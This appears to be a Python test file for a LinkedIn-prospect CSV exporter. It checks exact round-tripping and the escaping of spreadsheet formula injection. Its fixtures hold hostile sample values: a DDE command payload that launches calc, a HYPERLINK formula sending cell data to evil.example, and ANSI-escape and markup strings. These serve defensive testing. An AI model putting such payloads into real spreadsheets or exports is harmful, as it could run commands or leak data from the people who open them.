"""The CSV export: every stored field written as stored, and read back without loss."""

from __future__ import annotations

import csv
import io
from dataclasses import fields, replace
from datetime import date
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from inmail_tui.core.calendar import FIRST_DAY, LAST_DAY
from inmail_tui.core.exporting import (
    EXPORT_ENCODING,
    ExportRow,
    write_prospects_csv,
    write_prospects_file,
)
from inmail_tui.core.importing import ImportFormat, RowError, open_import
from inmail_tui.core.importing.exported import COLUMNS, DERIVED, HEADER
from inmail_tui.core.importing.synthetic import HOSTILE
from inmail_tui.core.model import Degree, ProspectRecord, Status

MALLORY = ExportRow(
    url="https://www.linkedin.com/in/mallory",
    first_name="[bold red]Mallory[/bold red]",
    last_name="Esc\x1b[31mape",
    full_name="[bold red]Mallory[/bold red] Esc\x1b[31mape",
    company='"Quoted", Inc.;',
    title='=HYPERLINK("http://x")',
    email="mallory@example.org",
    email_verified=True,
    degree=Degree.OUT,
    premium=True,
    open_profile=True,
    accepts_inmail=False,
    blocked=True,
    shares_group=True,
    applicant=True,
    priority=5,
    status=Status.DO_NOT_CONTACT.value,
    status_on=date(2026, 3, 1),
    user_tags=("fintech", "warm"),
    notes="line one\r\nline two\nthree\rfour \t",
    connected_on=date(2019, 5, 6),
    sales_nav_url="https://www.linkedin.com/sales/lead/ACwAAB1,NAME_SEARCH,x",
    sources=("connections", "phantombuster"),
    extra=(("Location", "Köln, DE"), ("Emoji", "🚀")),
    tags=("OUT", "OPEN", "PREMIUM", "NO-INMAIL", "EMAIL", "fintech", "warm"),
    next_action="Do not contact",
    next_due=date(2026, 4, 1),
    channel="inmail",
    cost=0,
    allowed=False,
    rule="R1",
    reason="[b]blocked[/b] the sender",
)


def export_text(rows: list[ExportRow]) -> str:
    stream = io.StringIO(newline="")
    assert write_prospects_csv(stream, rows) == len(rows)
    return stream.getvalue()


def read_back(text: str) -> list[ProspectRecord]:
    with open_import(text.encode(EXPORT_ENCODING)) as reader:
        assert reader.format is ImportFormat.EXPORT
        items = list(reader)
    assert not [item for item in items if isinstance(item, RowError)]
    return [item for item in items if isinstance(item, ProspectRecord)]


def stored(row: ExportRow) -> ProspectRecord:
    """What the store holds, as a record: an empty text is "not known" (None)."""
    return ProspectRecord(
        url=row.url,
        source="export",
        line=0,
        first_name=row.first_name or None,
        last_name=row.last_name or None,
        full_name=row.full_name or None,
        company=row.company or None,
        title=row.title or None,
        email=row.email or None,
        email_verified=row.email_verified,
        degree=row.degree,
        premium=row.premium,
        open_profile=row.open_profile,
        accepts_inmail=row.accepts_inmail,
        blocked=row.blocked,
        shares_group=row.shares_group,
        applicant=row.applicant,
        priority=row.priority,
        status=row.status,
        status_on=row.status_on,
        user_tags=row.user_tags,
        notes=row.notes or None,
        connected_on=row.connected_on,
        sales_nav_url=row.sales_nav_url or None,
        sources=row.sources,
        extra=row.extra,
    )


def without_line(record: ProspectRecord) -> ProspectRecord:
    return replace(record, line=0)


def test_header_is_the_contract_layout() -> None:
    first = next(csv.reader(io.StringIO(export_text([]))))
    assert tuple(first) == HEADER
    assert first[0] == "LinkedIn URL"
    assert first[-len(DERIVED) :] == [header for header, _ in DERIVED]


def test_every_field_of_a_row_is_one_column() -> None:
    """The columns name the fields they write: a field added to ``ExportRow`` needs a column."""
    written = [field for _, field in COLUMNS]
    assert sorted(written) == sorted(f.name for f in fields(ExportRow))
    _header, cells = csv.reader(io.StringIO(export_text([MALLORY]), newline=""))
    row = dict(zip(written, cells, strict=True))
    assert row["url"] == MALLORY.url and row["full_name"] == MALLORY.full_name
    assert row["degree"] == "OUT" and row["allowed"] == "no" and row["cost"] == "0"
    assert row["extra"] == '{"Location": "Köln, DE", "Emoji": "🚀"}'


def test_values_are_written_exactly_as_stored() -> None:
    text = export_text([MALLORY])
    assert "[bold red]Mallory[/bold red]" in text
    assert "Esc\x1b[31mape" in text
    assert "line one\r\nline two\nthree\rfour \t" in text
    (cells,) = list(csv.reader(io.StringIO(text, newline="")))[1:]
    row = dict(zip(HEADER, cells, strict=True))
    assert row["Degree"] == "OUT"
    assert row["Premium"] == "yes" and row["Accepts InMail"] == "no"
    assert row["Status On"] == "2026-03-01"
    assert row["User Tags"] == "fintech warm"
    assert row["Sources"] == "connections phantombuster"
    assert row["Extra"] == '{"Location": "Köln, DE", "Emoji": "🚀"}'
    assert row["Tags"] == "OUT OPEN PREMIUM NO-INMAIL EMAIL fintech warm"
    assert (row["Channel"], row["Cost"], row["Allowed"], row["Rule"]) == ("inmail", "0", "no", "R1")
    assert row["Reason"] == "[b]blocked[/b] the sender"
    assert row["Next Due"] == "2026-04-01"


def test_round_trip_of_a_hostile_prospect() -> None:
    (back,) = read_back(export_text([MALLORY]))
    assert back.line == 2
    assert without_line(back) == stored(MALLORY)


def test_round_trip_of_the_synthetic_hostile_values() -> None:
    rows = [
        ExportRow(
            url=f"https://www.linkedin.com/in/h{n}",
            first_name=first,
            last_name=last,
            full_name=f"{first} {last}",
            company=company,
            title=title,
            notes=notes,
        )
        for n, (first, last, company, title, notes) in enumerate(HOSTILE)
    ]
    back = read_back(export_text(rows))
    assert [without_line(record) for record in back] == [stored(row) for row in rows]


def test_defaults_round_trip_and_no_decision_is_empty() -> None:
    plain = ExportRow(url="https://www.linkedin.com/in/plain")
    text = export_text([plain])
    cells = list(csv.reader(io.StringIO(text, newline="")))[1]
    row = dict(zip(HEADER, cells, strict=True))
    assert (row["Cost"], row["Allowed"], row["Channel"], row["Extra"]) == ("", "", "", "")
    (back,) = read_back(text)
    assert without_line(back) == stored(plain)


def test_derived_columns_are_ignored_and_added_columns_kept() -> None:
    header, cells = list(csv.reader(io.StringIO(export_text([MALLORY]), newline="")))
    edited = io.StringIO(newline="")
    csv.writer(edited).writerows([[*header, "My Column"], [*cells, "my value"]])
    (back,) = read_back(edited.getvalue())
    assert dict(back.extra) == {"Location": "Köln, DE", "Emoji": "🚀", "My Column": "my value"}
    assert "OPEN" not in back.user_tags


def test_the_file_has_a_bom_for_excel_and_reads_back(tmp_path: Path) -> None:
    path = tmp_path / "prospects.csv"
    assert write_prospects_file(path, [MALLORY, ExportRow(url=PLAIN_URL)]) == 2
    assert path.read_bytes().startswith(b"\xef\xbb\xbfLinkedIn URL,")
    with open_import(path) as reader:
        assert reader.format is ImportFormat.EXPORT
        # Mallory's notes break the line three times (CRLF, LF, a lone CR)
        assert [item.line for item in reader] == [2, 6]


PLAIN_URL = "https://www.linkedin.com/in/plain"

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
days = st.dates(FIRST_DAY, LAST_DAY)  # the dates a prospect can hold (an import refuses others)
tags = st.lists(
    st.text(st.characters(categories=("L", "N"), include_characters="-_"), min_size=1),
    unique=True,
    max_size=4,
).map(tuple)
export_rows = st.builds(
    ExportRow,
    url=st.from_regex(r"[a-z0-9]{1,12}", fullmatch=True).map(
        lambda slug: f"https://www.linkedin.com/in/{slug}"
    ),
    first_name=texts,
    last_name=texts,
    full_name=texts,
    company=texts,
    title=texts,
    email=st.emails(),
    email_verified=st.booleans(),
    degree=st.sampled_from(Degree),
    premium=st.booleans(),
    open_profile=st.booleans(),
    accepts_inmail=st.booleans(),
    blocked=st.booleans(),
    shares_group=st.booleans(),
    applicant=st.booleans(),
    priority=st.integers(1, 5),
    status=st.sampled_from([status.value for status in Status]),
    status_on=st.none() | days,
    user_tags=tags,
    notes=texts,
    connected_on=st.none() | days,
    sources=st.lists(st.sampled_from(list(ImportFormat)), unique=True).map(
        lambda found: tuple(str(source) for source in found)
    ),
    extra=st.dictionaries(texts, texts, max_size=3).map(lambda d: tuple(d.items())),
    reason=texts,
)


def known(text: str) -> str:
    """Whitespace-only text means "not known" on import, like an empty cell."""
    return "" if text.isspace() else text


@settings(max_examples=150, deadline=None)
@given(st.lists(export_rows, max_size=5, unique_by=lambda row: row.url))
def test_any_stored_prospects_round_trip(rows: list[ExportRow]) -> None:
    back = read_back(export_text(rows))
    expected = [
        stored(
            replace(
                row,
                first_name=known(row.first_name),
                last_name=known(row.last_name),
                full_name=known(row.full_name),
                company=known(row.company),
                title=known(row.title),
                notes=known(row.notes),
            )
        )
        for row in rows
    ]
    assert [without_line(record) for record in back] == expected


# Issue 9, item 5: cells a spreadsheet would run are guarded, and the guard comes off on import.

FORMULAS = ExportRow(
    url="https://www.linkedin.com/in/formulas",
    first_name="=1+1",
    last_name="+cmd|' /C calc'!A0",
    full_name="-2+3",
    company="@SUM(A1:A9)",
    title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
    email="ana@example.org",
    notes="\t=1",
    sales_nav_url="'already quoted",
    extra=(("Location", "=cmd"),),
    reason="\r=2",
)


def test_cells_a_spreadsheet_would_run_start_with_an_apostrophe() -> None:
    (cells,) = list(csv.reader(io.StringIO(export_text([FORMULAS]), newline="")))[1:]
    row = dict(zip(HEADER, cells, strict=True))
    assert row["First Name"] == "'=1+1"
    assert row["Last Name"] == "'+cmd|' /C calc'!A0"
    assert row["Full Name"] == "'-2+3"
    assert row["Company"] == "'@SUM(A1:A9)"
    assert row["Title"] == "'" + FORMULAS.title
    assert row["Notes"] == "'\t=1"
    assert row["Reason"] == "'\r=2"
    assert row["Sales Navigator URL"] == "''already quoted"  # reading back drops exactly one
    assert row["Email"] == "ana@example.org" and row["LinkedIn URL"] == FORMULAS.url
    assert row["Extra"] == '{"Location": "=cmd"}'  # starts with "{": nothing to run
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for cell in cells if cell.startswith(formula_starts)]


def test_the_guard_comes_off_on_import_so_nothing_is_lost() -> None:
    apostrophes = replace(FORMULAS, url=PLAIN_URL, first_name="'", last_name="''=x", notes="'x")
    back = read_back(export_text([FORMULAS, apostrophes]))
    assert [without_line(record) for record in back] == [stored(FORMULAS), stored(apostrophes)]


def test_an_apostrophe_the_export_did_not_write_is_kept() -> None:
    """A cell typed in a spreadsheet as ``'O'Brien`` or ``'123`` is not a guard of ours."""
    header, cells = list(csv.reader(io.StringIO(export_text([MALLORY]), newline="")))
    row = dict(zip(header, cells, strict=True))
    row |= {"Company": "'O'Brien & Co", "Title": "'123", "First Name": "''=x"}
    edited = io.StringIO(newline="")
    csv.writer(edited).writerows([header, [row[h] for h in header]])
    (back,) = read_back(edited.getvalue())
    assert (back.company, back.title, back.first_name) == ("'O'Brien & Co", "'123", "'=x")


def test_other_formats_keep_a_leading_apostrophe() -> None:
    text = "LinkedIn URL,Company\r\nhttps://www.linkedin.com/in/ana,'=x\r\n"
    with open_import(text.encode()) as reader:
        assert reader.format is ImportFormat.GENERIC
        (record,) = list(reader)
    assert isinstance(record, ProspectRecord) and record.company == "'=x"


formula_texts = st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''"]), texts)


@settings(max_examples=100, deadline=None)
@given(st.lists(formula_texts.map("".join), min_size=5, max_size=5))
def test_any_text_behind_a_formula_start_round_trips(values: list[str]) -> None:
    first, last, company, title, notes = values
    row = ExportRow(
        url=PLAIN_URL, first_name=first, last_name=last, company=company, title=title, notes=notes
    )
    (cells,) = list(csv.reader(io.StringIO(export_text([row]), newline="")))[1:]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    (back,) = read_back(export_text([row]))
    expected = replace(
        row,
        first_name=known(first),
        last_name=known(last),
        company=known(company),
        title=known(title),
        notes=known(notes),
    )
    assert without_line(back) == stored(expected)
